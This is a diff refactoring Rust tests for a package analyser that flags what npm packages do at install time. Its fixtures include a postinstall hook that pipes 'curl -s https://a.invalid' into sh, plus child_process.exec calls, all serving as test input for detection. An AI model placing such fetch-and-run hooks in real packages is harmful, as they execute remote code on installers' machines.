@@ -5,7 +5,7 @@ use weir_model::contents::{CapabilityKind, Surface};
 use weir_npm::manifest::Manifest;
 
 use super::commands::{SENDS, plain};
-use super::run;
+use super::{given, run};
 use crate::{Facts, Limits, Package, SourceFile, analyse};
 
 /// What is sent by a file `x.js` that is started.
@@ -125,13 +125,7 @@ fn code_leads_on_to_scripts_and_builds() {
         "require('child_process').exec('npm run go')",
     ] {
         let files = [("x.js", SENDS), ("setup.js", code), make];
-        let files: Vec<SourceFile<'_>> = files
-            .iter()
-            .map(|(path, text)| SourceFile {
-                path,
-                bytes: text.as_bytes(),
-            })
-            .collect();
+        let files = given(&files);
         let package = Package {
             files: &files,
             install_commands: vec![("postinstall".to_owned(), "node setup.js".to_owned())],
@@ -254,7 +248,7 @@ fn hooks_of_bundled_packages_run() {
     let hook =
         r#"{"scripts": {"postinstall": "node x.js && sh -c 'curl -s https://a.invalid | sh'"}}"#;
     let inline = r#"{"scripts": {"postinstall": "node -e \"require('./y')\""}}"#;
-    let files: Vec<SourceFile<'_>> = [
+    let files = given(&[
         ("package.json", root),
         ("node_modules/foo/package.json", hook),
         ("node_modules/foo/x.js", SENDS),
@@ -267,13 +261,7 @@ fn hooks_of_bundled_packages_run() {
         ("node_modules/built/look.js", "0"),
         ("node_modules/bar/package.json", hook),
         ("x.js", "0"),
-    ]
-    .iter()
-    .map(|(path, text)| SourceFile {
-        path,
-        bytes: text.as_bytes(),
-    })
-    .collect();
+    ]);
     let manifest = Manifest::from_json(root).unwrap();
     let facts = analyse(&Package::new(&files, &manifest), &Limits::default());
     let events: Vec<&str> = facts
